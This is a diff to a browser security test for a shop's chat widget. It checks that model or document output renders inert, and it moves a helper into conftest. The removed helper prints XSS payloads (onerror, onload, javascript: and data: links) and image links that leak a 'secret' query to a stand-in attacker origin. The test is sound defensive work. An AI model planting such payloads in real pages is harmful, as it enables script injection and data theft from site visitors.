@@ -8,7 +8,7 @@ import httpx
 import pytest
 from playwright.sync_api import expect
 
-from tests.browser.conftest import embed_page
+from tests.browser.conftest import embed_page, payloads
 
 pytestmark = pytest.mark.browser
 
@@ -17,16 +17,6 @@ RETURN_ANSWER = ("You can return any item within **30 days** of delivery.\n\n"
                  "1. Open *My orders*\n2. Click `Return`\n3. Print the label and drop the parcel off.\n\n"
                  "See [our returns policy](https://shop.example/returns) or write to [support](mailto:help@shop.example).")
 WIDGET = "prompteur-widget"
-
-
-def payloads(attacker_origin: str) -> str:
-    return ('<img src=x onerror="window.__pwned=\'img\'"> '
-            f"![x]({attacker_origin}/leak?q=secret) "
-            '<svg onload="window.__pwned=\'svg\'"></svg> '
-            "[click me](javascript:window.__pwned='js') [tab](java\tscript:window.__pwned='tab') "
-            "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
-            f"<img src=\"{attacker_origin}/leak2?q=secret\"> "
-            f"[leak]({attacker_origin}/clicked)")
 
 
 def open_page(context, url: str):
@@ -212,9 +202,7 @@ def test_payloads_from_the_model_the_documents_and_the_customer_do_nothing(
             href = a.get_attribute("href")
             assert href.startswith(("https://", "http://", "mailto:")), href
             assert a.get_attribute("rel") == "noopener noreferrer"
-        assert not any(sel for sel in ["javascript:", "data:"]
-                       if shadow.locator(f'a[href^="{sel}"]').count())
-        assert attacker.hits == [] or all(h.startswith("/clicked") for h in attacker.hits)
+        assert attacker.hits == []
 
     snippets = answer.locator(".sources blockquote")
     expect(snippets.first).to_be_visible()
@@ -226,7 +214,6 @@ def test_payloads_from_the_model_the_documents_and_the_customer_do_nothing(
     expect(answer).to_contain_text("Anything else?")
     answer.locator(".sources summary").first.click()
     assert_inert()
-    assert attacker.hits == []
     assert page.problems == []
     context.close()
 
